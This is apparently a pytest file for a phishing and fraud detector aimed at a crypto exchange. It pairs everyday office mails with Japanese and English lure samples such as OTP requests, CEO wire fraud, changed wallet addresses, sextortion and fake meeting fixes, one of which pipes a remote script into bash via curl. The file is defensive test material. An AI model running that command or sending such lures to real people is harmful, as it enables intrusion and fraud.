"""What people write is told apart: everyday office mail stays quiet, lures in other words than the examples are seen."""

from importlib import resources
from pathlib import Path

import pytest

from noroshi.company.load import load_company
from noroshi.company.people import PeopleIndex
from noroshi.company.relation import Relation
from noroshi.detect.case import Case
from noroshi.detect.signal import all_signals
from noroshi.detect.weights import default_weights
from noroshi.message.read import read_message

FAMILIES = ("content", "payload", "infrastructure")
QUIET = 3.5
"""bits that one everyday mail may gather in these families: half of what makes a caution"""

ORDINARY = [
    (
        "ひばり急便 <info@hibari-kyubin.test>",
        "ご不在連絡",
        "送り状番号を入れて再配達をお申し込みください。https://hibari-kyubin.test/r お急ぎの方はドライバーへお電話ください。",
    ),
    (
        "Lena Fox <lena@print-works.test>",
        "Proofs",
        "The proofs for our spring issue are attached. Could you check the portrait of your office and answer this mail by Friday?",
    ),
    (
        "経理 <keiri@partner-kk.test>",
        "経費精算のお願い",
        "山田です。\n3月分の経費精算を本日中にお願いします。振込は25日です。\n",
    ),
    (
        "佐藤 <sato@sample-kk.test>",
        "請求書送付のご案内",
        "いつもお世話になっております。株式会社サンプルの佐藤です。\n請求書を送付いたします。お支払いは月末までに下記口座へお振込みをお願いいたします。\nみずほ銀行 丸の内支店 普通 1234567\nご確認のほどよろしくお願いいたします。",
    ),
    (
        "佐藤 <sato@sample-kk.test>",
        "Zoomミーティングのご案内",
        "明日の打ち合わせのURLをお送りします。\nhttps://us05web.zoom.us/j/123456\nミーティングID: 123 456\nパスコード: abc123\nZoomアプリをインストールしていない場合は https://zoom.us/download からダウンロードしてください。音声が聞こえない場合はマイクの設定をご確認ください。",
    ),
    (
        "情報システム部 <it@kaiyo-exchange.example>",
        "【重要】標的型攻撃メール訓練のお知らせ",
        "各位\n情報システム部です。不審なメールのリンクをクリックしないでください。パスワードを入力させるフィッシングの手口が増えています。『至急』『アカウント停止』などの言葉にご注意ください。",
    ),
    (
        "鈴木 <hr@kaiyo-exchange.example>",
        "面接日程のご連絡",
        "採用担当の鈴木です。面接の日程についてご連絡いたします。Zoomで行います。履歴書をお送りください。",
    ),
    (
        "Service X <no-reply@service-x.test>",
        "Password reset",
        "You asked to reset your password for Example Service. Click the link below to reset your password:\nhttps://accounts.service-x.test/reset?t=1\nIf you did not request this, ignore this mail.",
    ),
    (
        "Service X <no-reply@service-x.test>",
        "Your verification code",
        "Your verification code is 123456. It expires in 10 minutes. Do not share it with anyone.",
    ),
    (
        "サービスX <no-reply@service-x.test>",
        "【ログイン通知】新しい端末からのログイン",
        "新しい端末からのログインがありました。心当たりがない場合はこちらからパスワードを変更してください。\nhttps://www.service-x.test/security",
    ),
    (
        "News X <letter@news-x.test>",
        "Weekly newsletter",
        "Crypto news of the week: Bitcoin wallets, scams and phishing: attackers ask you to enter your seed phrase. Venture capital funds invest in exchanges. Read more https://news-x.test/1\nUnsubscribe https://news-x.test/u",
    ),
    (
        "Ann Lee <ann.lee@northwind-custody.example>",
        "Contract for signature",
        "Please review and sign the NDA in DocuSign: https://www.docusign.net/sign/1\nBest regards, Ann",
    ),
    (
        "佐藤 <sato@sample-kk.test>",
        "資料共有の件",
        "ファイルを共有しました。以下のリンクからご確認ください。\nhttps://drive.google.com/file/d/1/view",
    ),
    (
        "佐藤 <sato@sample-kk.test>",
        "資料共有の件",
        "資料を共有しました。以下のリンクからご確認ください。パスワードは別途お送りします。\nhttps://sample-kk.box.com/s/1",
    ),
    (
        "田中 <tanaka@toto-u.test>",
        "講演のお願い",
        "はじめまして。東都大学の田中と申します。来年5月のシンポジウムでご登壇をお願いできないでしょうか。概要は下記のページをご覧ください。\nhttps://www.toto-u.test/symposium\n",
    ),
    (
        "Taro Yamada <t.yamada@kaiyo-exchange.example>",
        "Re: quick question",
        "Do you have a minute this afternoon? I have a question on the report.",
    ),
    (
        "HR <hr@kaiyo-exchange.example>",
        "Payroll",
        "Dear all, salaries will be paid on the 25th. If your bank details have changed, please tell HR by using the form on the intranet: https://intranet.kaiyo-exchange.example/hr",
    ),
    (
        "佐藤 <sato@sample-kk.test>",
        "取引先口座変更のお知らせ",
        "平素よりお世話になっております。このたび弊社の振込先口座が変更となりました。詳細は添付の通知書をご確認ください。",
    ),
    (
        "監視 <alert@kaiyo-exchange.example>",
        "サーバ障害のご連絡",
        "至急ご確認ください。本番サーバーのディスク容量が不足しています。ssh で入って du を実行してください。",
    ),
    ("友人 <tomo@mail.test>", "飲み会", "今日の飲み会、LINEグループに招待します。LINE IDを教えてください。"),
    (
        "Ann <ann@northwind-custody.example>",
        "Invitation: sync",
        "You have been invited to a meeting. Join Microsoft Teams Meeting: https://teams.microsoft.com/l/meetup-join/1\nLearn more about Teams | Meeting options",
    ),
    (
        "採用 <recruit@jobs-x.test>",
        "ご応募ありがとうございます",
        "この度はバックエンドエンジニアにご応募いただきありがとうございます。コーディングテストのURLをお送りします。https://app.codetest-x.test/t/1 ブラウザ上で完結します。",
    ),
    (
        "ヤマト運輸 <mail@kuronekoyamato.co.jp>",
        "宅急便お届けのお知らせ",
        "ヤマト運輸です。お荷物を本日お届けします。配達状況はこちら https://www.kuronekoyamato.co.jp/",
    ),
    (
        "sato <notifications@github.com>",
        "GitHub: please review",
        "sato requested your review on kaiyo/wallet#12. git clone, npm install and run the tests locally. https://github.com/kaiyo/wallet/pull/12",
    ),
    (
        "コンプラ <compliance@kaiyo-exchange.example>",
        "監督当局からの照会について",
        "金融庁からの照会について、添付の様式にご記入のうえ、金曜までにご返送ください。",
    ),
    (
        "Ann <ann.lee@northwind-custody.example>",
        "Out of office",
        "I am out of the office with limited access to mail. For urgent matters call my mobile.",
    ),
    (
        "Amazon.co.jp <auto-confirm@amazon.co.jp>",
        "ご注文ありがとうございます",
        "Amazon.co.jp でご注文いただきありがとうございます。お届け予定日: 3月3日。注文の詳細はこちら https://www.amazon.co.jp/orders",
    ),
    (
        "IT <it@kaiyo-exchange.example>",
        "IT help",
        "To connect from home please install AnyDesk from the software centre and give the help desk your ID when they call.",
    ),
]

LURES = [
    (
        "code-request",
        "Account desk <desk@acct-desk.test>",
        "Was this you?",
        "We stopped a login from Lagos. Your authenticator now shows a number. Answer this mail with it within ten minutes.",
    ),
    (
        "code-request",
        "アカウント保護 <hogo@acct-safe.test>",
        "ご本人確認",
        "ご本人確認のため、リカバリーコードを1つ、このメールにご返信ください。",
    ),
    (
        "app-for-a-simple-task",
        "Ines Duval <ines@lumiere-press.test>",
        "Portrait",
        "The interview takes place in our studio: https://studio.lumiere-press.test/r/7 Please accept whatever it asks for.",
    ),
    (
        "credential-request",
        "File desk <files@file-desk.test>",
        "A document waits",
        "A document waits for you. Open it with your mail password: https://file-desk.test/d",
    ),
    (
        "move-to-another-platform",
        "山田太郎 <ceo@mail.test>",
        "業務連絡",
        "お疲れ様です。新規プロジェクトの件で、LINEの業務グループを新しく作ってください。作成後、グループの二次元コードを私宛に送ってもらえますか。\n代表取締役 山田",
    ),
    (
        "secrecy",
        "山田太郎 <ceo@mail.test>",
        "ご確認",
        "山田です。至急、海外子会社への送金手続きを進めてほしい。弁護士から連絡が行くので指示に従ってください。本件は極秘案件なので誰にも口外しないでください。",
    ),
    (
        "availability-opener",
        "Taro Yamada <ceo@mail.test>",
        "Quick favour",
        "Are you free at the moment? I'm stuck in a board meeting and can't take calls. Email me back.",
    ),
    (
        "payment-request",
        "Taro Yamada <ceo@mail.test>",
        "Urgent wire",
        "Hi Hikari, I need you to process an international wire of USD 48,500 to a new vendor today. Keep this between us until the deal is announced.",
    ),
    (
        "bank-details-changed",
        "大野 光 <hikari@mail.test>",
        "給与口座の変更",
        "お疲れ様です。来月分から給与の振込先を変更したいのですが、手続きを教えてください。新しい口座は以下の通りです。",
    ),
    (
        "bank-details-changed",
        "Hikari Ono <h@mail.test>",
        "Payroll update",
        "Hi, I changed my bank and would like my salary to go to my new account before the next pay run. Can you update my direct deposit?",
    ),
    (
        "recruiter-offer",
        "Lisa <lisa@mail.test>",
        "Exciting opportunity",
        "Hi! I'm a talent partner at Coinbridge Labs. Your GitHub is impressive and we think you'd be a great fit for our Lead Solidity Engineer role, fully remote, 28k USDT per month. Interested?",
    ),
    (
        "coding-test",
        "採用 <hr@mail.test>",
        "選考課題のご案内",
        "書類選考通過おめでとうございます。次のステップとして技術課題をお送りします。下記リポジトリをクローンし、npm install の後に起動して、動作をご確認ください。期限は48時間以内です。https://bitbucket.org/x/y",
    ),
    (
        "investor-approach",
        "Mark <m@mail.test>",
        "Fund intro",
        "Dear team, I lead the investment team at Horizon Capital Partners. We are considering a strategic investment into your exchange and would like to set up a call. Our NDA and pitch deck: https://horizon-docs.test/nda",
    ),
    (
        "investor-approach",
        "森 <mori@mail.test>",
        "出資のご提案",
        "突然のご連絡失礼いたします。ブルーピアキャピタルの森と申します。貴社への出資を検討しております。秘密保持契約書を下記よりダウンロードのうえご確認ください。https://bp-docs.test/nda",
    ),
    (
        "meeting-needs-fix",
        "Kim <kim@mail.test>",
        "Re: our call",
        "Looks like your audio isn't coming through. It's a known issue with the old client. Run this fix script and rejoin: https://zoom-support.test/fix.scpt",
    ),
    (
        "meeting-needs-fix",
        "森 <mori@mail.test>",
        "オンライン面談の件",
        "先ほどの面談ですが、こちらの音声が聞こえないようです。Zoomのバージョンが古いため、下記の更新プログラムをインストールしてから再度ご参加ください。https://zm-update.test/",
    ),
    (
        "paste-a-command",
        "HR <hr@mail.test>",
        "Camera check",
        "To fix your camera, open Terminal, copy and paste this and press enter: curl -k https://x.test/a.sh | bash",
    ),
    (
        "wallet-or-seed-request",
        "Support <s@mail.test>",
        "Support",
        "Hello, this is the wallet support team. To restore your funds please provide your 12-word recovery phrase by replying.",
    ),
    (
        "brand-in-sender-name",
        "MetaMask <info@mail.test>",
        "MetaMask 重要なお知らせ",
        "お客様のウォレットはまだ認証されていません。ウォレットを認証しないと利用が制限されます。https://mm-verify.test/",
    ),
    (
        "account-problem",
        "三井住友カード <info@mail.test>",
        "【三井住友カード】ご利用確認",
        "お客様のカードが第三者に不正利用された可能性があるため、ご利用を一時的に制限しました。下記リンクより本人確認をお願いいたします。https://vpass-check.top/login",
    ),
    (
        "brand-against-host",
        "えきねっと <info@mail.test>",
        "【えきねっと】自動退会",
        "2年以上ログインがないため、自動退会となります。下記よりログインしてください。https://eki-login.cn/",
    ),
    (
        "code-request",
        "IT desk <it@mail.test>",
        "Your OTP",
        "Hi, it's the IT desk. You'll receive a verification code in a minute, please forward it to me so I can finish your migration.",
    ),
    (
        "changed-wallet-address",
        "Ann Lee <ann@mail.test>",
        "New deposit address",
        "Dear partner, due to a security upgrade our cold wallet has changed. Please send the settlement of 250 ETH to 0x52908400098527886E0F7030069857D2E4169EE7 from now on.",
    ),
    (
        "changed-wallet-address",
        "Ann <ann@mail.test>",
        "送金先アドレス変更のお願い",
        "システム更改に伴い、出金先のウォレットアドレスが変更になりました。本日以降は以下の新しいアドレスへ送付してください。bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
    ),
    (
        "journalist-request",
        "Joan <joan@mail.test>",
        "Interview request",
        "I'm a reporter with The Ledger Times and would like to interview you for a story on Japanese exchanges. Questions are in this document: https://press-docs.test/q",
    ),
    (
        "journalist-request",
        "Joe <joe@mail.test>",
        "Podcast",
        "I host a crypto podcast and would love to feature you. Book a slot here https://calendly.com/x and join via our studio link https://riverside-studio.test/",
    ),
    (
        "authority-asks-to-install",
        "警察庁 <npa@mail.test>",
        "セキュリティ点検",
        "警察庁サイバー警察局です。貴社を狙った攻撃を確認しました。添付の検査プログラムを全端末で実行してください。",
    ),
    (
        "authority-asks-to-install",
        "JVCEA <info@mail.test>",
        "JVCEA notice",
        "JVCEA requires all members to run the attached self-check tool by Friday and report the results.",
    ),
    (
        "debug-help",
        "Bo <bo@mail.test>",
        "Help needed",
        "Hey, my build keeps failing and I can't figure out why. Could you clone https://github.com/a/b and run it on your machine to see where it crashes?",
    ),
    (
        "package-install",
        "Bo <bo@mail.test>",
        "SDK",
        "To integrate, npm i kaiyo-ledger-connect and let me know if it works on your side.",
    ),
    (
        "move-to-another-platform",
        "Mark <m@mail.test>",
        "Let's talk",
        "Great to connect! I'm rarely on mail; could we continue on Telegram? My handle is @markvc",
    ),
    (
        "new-account-of-mine",
        "山田太郎 <yamada.t@mail.test>",
        "アドレス変更",
        "山田です。会社のメールが不調のため、しばらく個人のアドレスから連絡します。返信はこちらにください。",
    ),
    (
        "bank-details-changed",
        "Billing <b@mail.test>",
        "Invoice overdue",
        "Your invoice is past due. Our bank account is currently under audit, so kindly remit payment to our alternate account; updated bank details below.",
    ),
    (
        "message-notice",
        "VM <v@mail.test>",
        "Voicemail",
        "You received a new voice message from +81-3-xxxx. Play message: https://vm.test/",
    ),
    (
        "account-problem",
        "IT <i@mail.test>",
        "Password expiry",
        "Your password will expire today. Keep current password: https://owa-keep.test/",
    ),
    (
        "secure-reader",
        "Legal <l@mail.test>",
        "Confidential",
        "The attached PDF is protected. If you can't open it, download our Secure Reader from https://reader.test/setup.exe",
    ),
    (
        "remote-control",
        "Exchange support <s@mail.test>",
        "AnyDesk",
        "We detected a problem with your withdrawal. Please download AnyDesk and share the 9-digit code so our engineer can help.",
    ),
    (
        "gift-cards",
        "山田太郎 <ceo@mail.test>",
        "ギフト券",
        "お疲れ様。お客様に渡すAppleギフトカードを10枚買ってきてくれますか？ 後で精算します。",
    ),
    (
        "extortion",
        "x <x@mail.test>",
        "Sextortion",
        "I have access to your operating system. I recorded you watching adult videos. Transfer $1200 in Bitcoin to my wallet within 48 hours.",
    ),
]


@pytest.fixture(scope="module")
def people() -> PeopleIndex:
    return PeopleIndex(load_company(Path(str(resources.files("noroshi.detect") / "data/examples/company.toml"))))


def fired(raw: bytes, people: PeopleIndex) -> dict[str, float]:
    """Signal → bits, of the three families; every quotation is checked on the way."""
    case = Case(read_message(raw), people, Relation())
    bits = {}
    for one in all_signals():
        found = one.check(case) if one.family in FAMILIES else None
        if found is not None:
            assert 0 < found.strength <= 1
            for quote in found.quotes:
                assert case.message.text_of(quote.part)[quote.start : quote.end] == quote.quote
            bits[one.name] = default_weights().signals[one.name].bits * found.strength
    return bits


def mail(author: str, subject: str, body: str) -> bytes:
    head = f"From: {author}\nTo: h.ono@kaiyo-exchange.example\nSubject: {subject}\n"
    return f"{head}Content-Type: text/plain; charset=utf-8\n\n{body}\n".encode()


@pytest.mark.parametrize(("author", "subject", "body"), ORDINARY, ids=[subject for _, subject, _ in ORDINARY])
def test_everyday_mail_stays_quiet(author: str, subject: str, body: str, people: PeopleIndex) -> None:
    bits = fired(mail(author, subject, body), people)
    assert sum(bits.values()) < QUIET, bits


@pytest.mark.parametrize(
    ("signal", "author", "subject", "body"), LURES, ids=[f"{lure[0]}: {lure[2]}" for lure in LURES]
)
def test_lures_in_other_words_are_seen(signal: str, author: str, subject: str, body: str, people: PeopleIndex) -> None:
    assert signal in fired(mail(author, subject, body), people)


@pytest.mark.parametrize(
    "body",
    [
        "send me the " * 50_000,
        "urgent please wire transfer seed phrase enter " * 10_000,
        "bitcoin new wallet " + "1BoatSLRHtKNngkdXEeobR76b53LETtpyT " * 5_000,
        "http://" + "a." * 5_000 + "test/",
        "aа\u200b" * 50_000,
        "has been charged, call us at " + "123 " * 50_000,
    ],
    ids=["phrases", "pairs", "coins", "host", "disguise", "digits"],
)
def test_hostile_text_raises_nothing_and_ends_soon(body: str, people: PeopleIndex) -> None:
    fired(mail("a@mail.test", "x", body), people)
